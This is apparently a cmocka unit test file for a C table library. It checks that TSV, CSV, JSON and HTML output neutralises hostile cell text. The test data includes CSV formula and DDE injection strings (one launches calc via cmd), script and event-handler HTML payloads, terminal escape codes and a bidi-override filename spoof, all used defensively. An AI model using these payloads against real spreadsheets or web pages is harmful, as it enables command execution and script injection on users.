/* The machine formats and HTML: hostile cells are written, read back with the parsers of others, and compared. */
#include "table.h"

#include <csv.h>
#include <jansson.h>
#include <libxml/HTMLparser.h>
#include <libxml/xpath.h>
#include <setjmp.h>
#include <stdarg.h>

#include <cmocka.h>

#define FFFD "\xEF\xBF\xBD"
#define BYTES(literal) {(literal), sizeof(literal) - 1} /* HOA_SLICE() is not constant */

/* A text as given; as the table keeps it (NULL: the same); as people see it (NULL: as kept). */
static const struct {
    HoaSlice given;
    const char *kept;
    const char *shown;
    bool guarded; /* CSV writes ' before it */
} hostile[] = {
    {BYTES("Người tốt, việc tốt"), NULL, NULL, false},
    {BYTES(""), NULL, NULL, false},
    {BYTES("a\tb\nc\r\nd\\n"), NULL, NULL, false},
    {BYTES("\"quoted\" 'single' \"\""), NULL, NULL, false},
    {BYTES("=HYPERLINK(\"http://x/?\"&A1,\"bấm\")"), NULL, NULL, true},
    {BYTES("+84 912"), NULL, NULL, true},
    {BYTES("-2+3+cmd|' /C calc'!A0"), NULL, NULL, true},
    {BYTES("@SUM(1+1)"), NULL, NULL, true},
    {BYTES("\t=1+1"), NULL, NULL, true},
    {BYTES("\r\n=1+1"), NULL, NULL, true},
    {BYTES("<script>alert('x')</script>&amp;&#x41;"), NULL, NULL, false},
    {BYTES("</td></table><!-- ]]>"), NULL, NULL, false},
    {BYTES("\" onmouseover=\"x"), NULL, NULL, false},
    {BYTES("red\x1B[31m\x1B]0;title\x07 bell"), NULL, "red" FFFD "[31m" FFFD "]0;title" FFFD " bell", false},
    {BYTES("c1\xC2\x9B" "31m \x7F"), NULL, "c1" FFFD "31m " FFFD, false},
    {BYTES("bidi \xE2\x80\xAE" "gpj\xE2\x81\xA6.exe"), NULL, "bidi " FFFD "gpj" FFFD ".exe", false},
    {BYTES("bad \xFF\xC3 end"), "bad " FFFD FFFD " end", "bad " FFFD FFFD " end", false},
    {BYTES(" leading and trailing "), NULL, NULL, false},
    {BYTES("a,b;c"), NULL, NULL, false},
    {BYTES("emoji 🌸 漢字 hie\xCC\x82\xCC\x81n"), NULL, NULL, false},
    {BYTES("NUL \0 inside"), NULL, "NUL " FFFD " inside", false},
};

static HoaSlice
kept(size_t i)
{
    return hostile[i].kept != NULL ? hoa_slice_from(hostile[i].kept) : hostile[i].given;
}

static HoaSlice
shown(size_t i)
{
    return hostile[i].shown != NULL ? hoa_slice_from(hostile[i].shown) : kept(i);
}

static const HoaColumn columns[] = {
    {.name = "text", .heading = "Văn bản", .type = HOA_COLUMN_TEXT},
    {.name = "amount", .heading = "Số tiền", .type = HOA_COLUMN_INT, .unit = "VND"},
    {.name = "share", .heading = "Tỉ lệ", .type = HOA_COLUMN_REAL, .unit = "%", .decimals = 1},
};

/* Row i: the i-th hostile text, a number, a real or NULL by turns. */
static HoaTable *
hostile_table(void)
{
    HoaTable *table = hoa_table_new(columns, G_N_ELEMENTS(columns));

    for (size_t i = 0; i < G_N_ELEMENTS(hostile); i++) {
        hoa_table_add_row(table);
        hoa_table_set_slice(table, 0, hostile[i].given);
        hoa_table_set_int(table, 1, -75358 * (int64_t)i);
        if (i % 2 == 0)
            hoa_table_set_real(table, 2, (double)i + 0.1 * 3);
    }
    return table;
}

static GString *
written(const HoaTable *table, HoaFormat format)
{
    HoaTableStyle style = {.format = format, .vietnamese = true};
    GString *out = g_string_new(NULL);

    hoa_table_write(table, &style, out);
    return out;
}

/* No format may let such a character out raw. */
static void
assert_harmless(const GString *out, bool controls_too)
{
    for (size_t i = 0; controls_too && i < out->len; i++) {
        unsigned char c = (unsigned char)out->str[i];

        assert_true(c >= 0x20 || c == '\n' || c == '\r' || c == '\t');
        assert_true(c != 0x7F);
    }
    assert_null(g_strstr_len(out->str, (gssize)out->len, "\xC2\x9B"));
    assert_null(g_strstr_len(out->str, (gssize)out->len, "\xE2\x80\xAE"));
    assert_null(g_strstr_len(out->str, (gssize)out->len, "\xE2\x81\xA6"));
    assert_true(g_utf8_validate_len(out->str, out->len, NULL));
}

/* ---- TSV ----- */

static GString *
tsv_unescaped(const char *cell)
{
    GString *out = g_string_new(NULL);

    for (const char *p = cell; *p != '\0'; p++) {
        if (*p != '\\') {
            g_string_append_c(out, *p);
            continue;
        }
        p++;
        if (*p == 'u') {
            char digits[5] = {p[1], p[2], p[3], p[4], '\0'};
            gunichar c = (gunichar)g_ascii_strtoull(digits, NULL, 16);

            if (c == 0)
                g_string_append_c(out, '\0');
            else
                g_string_append_unichar(out, c);
            p += 4;
        } else {
            g_string_append_c(out, *p == 't' ? '\t' : *p == 'n' ? '\n' : *p == 'r' ? '\r' : *p);
        }
    }
    return out;
}

static void
tsv_reads_back(void **state)
{
    g_autoptr(HoaTable) table = hostile_table();
    g_autoptr(GString) out = written(table, HOA_FORMAT_TSV);
    g_auto(GStrv) lines = g_strsplit(out->str, "\n", -1);

    (void)state;
    assert_harmless(out, true);
    assert_int_equal(g_strv_length(lines), G_N_ELEMENTS(hostile) + 2);
    assert_string_equal(lines[0], "text\tamount\tshare");
    assert_string_equal(lines[G_N_ELEMENTS(hostile) + 1], "");
    for (size_t i = 0; i < G_N_ELEMENTS(hostile); i++) {
        g_auto(GStrv) cells = g_strsplit(lines[i + 1], "\t", -1);
        g_autoptr(GString) text = NULL;

        assert_int_equal(g_strv_length(cells), 3);
        text = tsv_unescaped(cells[0]);
        assert_true(hoa_slice_equal(hoa_slice(text->str, text->len), kept(i)));
        assert_true(g_ascii_strtoll(cells[1], NULL, 10) == -75358 * (gint64)i);
        if (i % 2 == 0)
            assert_true(g_ascii_strtod(cells[2], NULL) == (double)i + 0.1 * 3);
        else
            assert_string_equal(cells[2], "");
    }
}

/* ---- CSV ----- */

typedef struct {
    GPtrArray *rows; /* of GPtrArray of GString */
    GPtrArray *row;
} Csv;

static void
free_string(void *data)
{
    g_string_free(data, TRUE);
}

static void
csv_cell(void *data, size_t len, void *user)
{
    Csv *csv = user;

    if (csv->row == NULL)
        csv->row = g_ptr_array_new_with_free_func(free_string);
    g_ptr_array_add(csv->row, g_string_new_len(data, (gssize)len));
}

static void
csv_row(int end, void *user)
{
    Csv *csv = user;

    (void)end;
    g_ptr_array_add(csv->rows, csv->row);
    csv->row = NULL;
}

static void
csv_reads_back(void **state)
{
    g_autoptr(HoaTable) table = hostile_table();
    g_autoptr(GString) out = written(table, HOA_FORMAT_CSV);
    Csv csv = {g_ptr_array_new_with_free_func((GDestroyNotify)g_ptr_array_unref), NULL};
    struct csv_parser parser;

    (void)state;
    assert_harmless(out, true);
    assert_memory_equal(out->str, "\xEF\xBB\xBFtext,amount,share\r\n", 22);
    assert_int_equal(csv_init(&parser, CSV_STRICT | CSV_STRICT_FINI), 0);
    assert_int_equal(csv_parse(&parser, out->str + 3, out->len - 3, csv_cell, csv_row, &csv), out->len - 3);
    assert_int_equal(csv_fini(&parser, csv_cell, csv_row, &csv), 0);
    csv_free(&parser);
    assert_int_equal(csv.rows->len, G_N_ELEMENTS(hostile) + 1);
    for (size_t i = 0; i < G_N_ELEMENTS(hostile); i++) {
        GPtrArray *row = g_ptr_array_index(csv.rows, i + 1);
        GString *text = g_ptr_array_index(row, 0);
        HoaSlice got = hoa_slice(text->str, text->len);

        assert_int_equal(row->len, 3);
        if (hostile[i].guarded) {
            assert_int_equal(got.data[0], '\'');
            got = hoa_slice_part(got, 1, got.len);
        }
        assert_true(hoa_slice_equal(got, shown(i)));
    }
    /* A negative number is a number and is left alone. */
    assert_string_equal(((GString *)g_ptr_array_index((GPtrArray *)g_ptr_array_index(csv.rows, 2), 1))->str, "-75358");
    g_ptr_array_unref(csv.rows);
}

/* ---- JSON ----- */

static void
check_json_row(json_t *row, size_t i)
{
    json_t *text = json_object_get(row, "text");

    assert_true(hoa_slice_equal(hoa_slice(json_string_value(text), json_string_length(text)), kept(i)));
    assert_true(json_integer_value(json_object_get(row, "amount")) == -75358 * (json_int_t)i);
    if (i % 2 == 0)
        assert_true(json_real_value(json_object_get(row, "share")) == (double)i + 0.1 * 3);
    else
        assert_true(json_is_null(json_object_get(row, "share")));
    assert_int_equal(json_object_size(row), 3);
}

static void
json_reads_back(void **state)
{
    g_autoptr(HoaTable) table = hostile_table();
    g_autoptr(GString) out = NULL;
    json_t *root, *rows, *facet;
    HoaTable *attached = hoa_table_new(columns, 1);

    (void)state;
    hoa_table_add_row(attached);
    hoa_table_set_slice(attached, 0, hostile[10].given);
    hoa_table_set_title(attached, "Theo \"năm\"");
    hoa_table_attach(table, "year", attached);
    hoa_table_add_note(table, "ghi chú \x1B[0m");
    hoa_table_set_total(table, UINT64_C(5000000000));
    out = written(table, HOA_FORMAT_JSON);
    assert_harmless(out, true);
    root = json_loadb(out->str, out->len, JSON_ALLOW_NUL | JSON_REJECT_DUPLICATES, NULL);
    assert_non_null(root);
    rows = json_object_get(root, "rows");
    assert_int_equal(json_array_size(rows), G_N_ELEMENTS(hostile));
    for (size_t i = 0; i < G_N_ELEMENTS(hostile); i++)
        check_json_row(json_array_get(rows, i), i);
    assert_true(json_integer_value(json_object_get(root, "total")) == INT64_C(5000000000));
    assert_string_equal(json_string_value(json_array_get(json_object_get(root, "notes"), 0)), "ghi chú \x1B[0m");
    facet = json_object_get(json_object_get(root, "facets"), "year");
    assert_string_equal(json_string_value(json_object_get(facet, "title")), "Theo \"năm\"");
    assert_int_equal(json_integer_value(json_object_get(facet, "total")), 1);
    assert_string_equal(
        json_string_value(json_object_get(json_array_get(json_object_get(facet, "rows"), 0), "text")),
        hostile[10].given.data);
    json_decref(root);
}

static void
json_tells_of_columns(void **state)
{
    g_autoptr(HoaTable) table = hoa_table_new(columns, G_N_ELEMENTS(columns));
    g_autoptr(GString) out = written(table, HOA_FORMAT_JSON);
    json_t *root = json_loadb(out->str, out->len, 0, NULL);
    json_t *column = json_array_get(json_object_get(root, "columns"), 1);

    (void)state;
    assert_int_equal(json_array_size(json_object_get(root, "columns")), 3);
    assert_string_equal(json_string_value(json_object_get(column, "name")), "amount");
    assert_string_equal(json_string_value(json_object_get(column, "heading")), "Số tiền");
    assert_string_equal(json_string_value(json_object_get(column, "type")), "int");
    assert_string_equal(json_string_value(json_object_get(column, "unit")), "VND");
    assert_int_equal(json_array_size(json_object_get(root, "rows")), 0);
    json_decref(root);
}

static void
json_lines_read_back(void **state)
{
    g_autoptr(HoaTable) table = hostile_table();
    g_autoptr(GString) out = written(table, HOA_FORMAT_JSONL);
    g_auto(GStrv) lines = g_strsplit(out->str, "\n", -1);

    (void)state;
    assert_harmless(out, true);
    assert_int_equal(g_strv_length(lines), G_N_ELEMENTS(hostile) + 1);
    for (size_t i = 0; i < G_N_ELEMENTS(hostile); i++) {
        json_t *row = json_loads(lines[i], JSON_ALLOW_NUL, NULL);

        assert_non_null(row);
        check_json_row(row, i);
        json_decref(row);
    }
}

static void
json_marks_count_characters(void **state)
{
    static const HoaSpan marks[] = {{0, 6}, {7, 4}}; /* bytes: hiến = 6, máu = 4 */
    g_autoptr(HoaTable) table = hoa_table_new(columns, 1);
    g_autoptr(GString) out = NULL;

    (void)state;
    hoa_table_add_row(table);
    hoa_table_set_text(table, 0, "hiến máu cứu người");
    hoa_table_set_marks(table, 0, marks, 2);
    hoa_table_add_row(table);
    hoa_table_set_text(table, 0, "không");
    out = written(table, HOA_FORMAT_JSONL);
    assert_string_equal(out->str, "{\"text\":\"hiến máu cứu người\",\"text_marks\":[[0,4],[5,3]]}\n"
                                  "{\"text\":\"không\"}\n");
}

static void
reals_are_short_and_exact(void **state)
{
    static const double values[] = {4.2, 0.1 + 0.2, 1e20, -0.0, 5e-324, 1.7976931348623157e308, 100};
    g_autoptr(HoaTable) table = hoa_table_new(&columns[2], 1);
    g_autoptr(GString) out = NULL;
    g_auto(GStrv) lines = NULL;

    (void)state;
    for (size_t i = 0; i < G_N_ELEMENTS(values); i++) {
        hoa_table_add_row(table);
        hoa_table_set_real(table, 0, values[i]);
    }
    out = written(table, HOA_FORMAT_TSV);
    lines = g_strsplit(out->str, "\n", -1);
    assert_string_equal(lines[1], "4.2");
    assert_string_equal(lines[7], "100.0");
    for (size_t i = 0; i < G_N_ELEMENTS(values); i++) {
        double back = g_ascii_strtod(lines[i + 1], NULL);

        assert_memory_equal(&back, &values[i], sizeof back);
    }
}

/* ---- HTML ----- */

static xmlXPathObjectPtr
select_nodes(xmlDocPtr document, const char *path)
{
    xmlXPathContextPtr context = xmlXPathNewContext(document);
    xmlXPathObjectPtr found = xmlXPathEvalExpression((const xmlChar *)path, context);

    xmlXPathFreeContext(context);
    assert_non_null(found);
    return found;
}

static size_t
count_nodes(xmlDocPtr document, const char *path)
{
    xmlXPathObjectPtr found = select_nodes(document, path);
    size_t n = found->nodesetval != NULL ? (size_t)found->nodesetval->nodeNr : 0;

    xmlXPathFreeObject(found);
    return n;
}

static char *
node_text(xmlDocPtr document, const char *path)
{
    xmlXPathObjectPtr found = select_nodes(document, path);
    xmlChar *text;
    char *copy;

    assert_true(found->nodesetval != NULL && found->nodesetval->nodeNr == 1);
    text = xmlNodeGetContent(found->nodesetval->nodeTab[0]);
    copy = g_strdup((const char *)text);
    xmlFree(text);
    xmlXPathFreeObject(found);
    return copy;
}

static xmlDocPtr
parse_html(const GString *out)
{
    return htmlReadMemory(out->str, (int)out->len, "page.html", "UTF-8", HTML_PARSE_NONET | HTML_PARSE_NOERROR);
}

static void
html_reads_back(void **state)
{
    g_autoptr(HoaTable) table = hostile_table();
    g_autoptr(GString) out = NULL;
    xmlDocPtr document;

    (void)state;
    hoa_table_set_title(table, "Kết quả <b>");
    hoa_table_add_note(table, "a < b & c");
    out = written(table, HOA_FORMAT_HTML);
    assert_harmless(out, true);
    assert_true(g_str_has_prefix(out->str, "<!DOCTYPE html>\n<html lang=\"vi\">"));
    document = parse_html(out);
    assert_non_null(document);
    assert_int_equal(count_nodes(document, "//script | //img | //link | //iframe | //*[@src] | //*[@href] | //*[@style]"), 0);
    assert_int_equal(count_nodes(document, "//*[starts-with(name(@*), 'on')]"), 0);
    assert_int_equal(count_nodes(document, "//tbody/tr"), G_N_ELEMENTS(hostile));
    for (size_t i = 0; i < G_N_ELEMENTS(hostile); i++) {
        g_autofree char *path = g_strdup_printf("//tbody/tr[%zu]/td[1]", i + 1);
        g_autofree char *text = node_text(document, path);

        assert_true(hoa_slice_equal(hoa_slice_from(text), shown(i)));
    }
    {
        g_autofree char *heading = node_text(document, "//thead/tr/th[2]");
        g_autofree char *amount = node_text(document, "//tbody/tr[2]/td[2][@class='n']");
        g_autofree char *title = node_text(document, "//h1");
        g_autofree char *note = node_text(document, "//p[@class='note']");

        assert_string_equal(heading, "Số tiền (VND)");
        assert_string_equal(amount, "-75.358");
        assert_string_equal(title, "Kết quả <b>");
        assert_string_equal(note, "a < b & c");
    }
    xmlFreeDoc(document);
}

static void
html_marks_and_sections(void **state)
{
    static const HoaSpan marks[] = {{1, 3}, {4, 8}};
    g_autoptr(HoaTable) table = hoa_table_new(columns, 1);
    HoaTable *attached = hoa_table_new(columns, 1);
    g_autoptr(GString) out = NULL;
    g_autofree char *heading = NULL, *total = NULL;
    xmlDocPtr document;

    (void)state;
    hoa_table_add_row(table);
    hoa_table_set_text(table, 0, "a<b><script>c");
    hoa_table_set_marks(table, 0, marks, 2);
    hoa_table_set_total(table, 1234);
    hoa_table_add_row(attached);
    hoa_table_set_text(attached, 0, "x");
    hoa_table_attach(table, "year\"", attached);
    out = written(table, HOA_FORMAT_HTML);
    document = parse_html(out);
    assert_non_null(strstr(out->str, "a<mark>&lt;b&gt;&lt;script&gt;</mark>c"));
    assert_int_equal(count_nodes(document, "//section//tbody/tr"), 1);
    heading = node_text(document, "//section/h2");
    assert_string_equal(heading, "year\"");
    total = node_text(document, "//p[@class='total']");
    assert_string_equal(total, "1 of 1.234");
    xmlFreeDoc(document);
}

int
main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(tsv_reads_back),
        cmocka_unit_test(csv_reads_back),
        cmocka_unit_test(json_reads_back),
        cmocka_unit_test(json_tells_of_columns),
        cmocka_unit_test(json_lines_read_back),
        cmocka_unit_test(json_marks_count_characters),
        cmocka_unit_test(reals_are_short_and_exact),
        cmocka_unit_test(html_reads_back),
        cmocka_unit_test(html_marks_and_sections),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
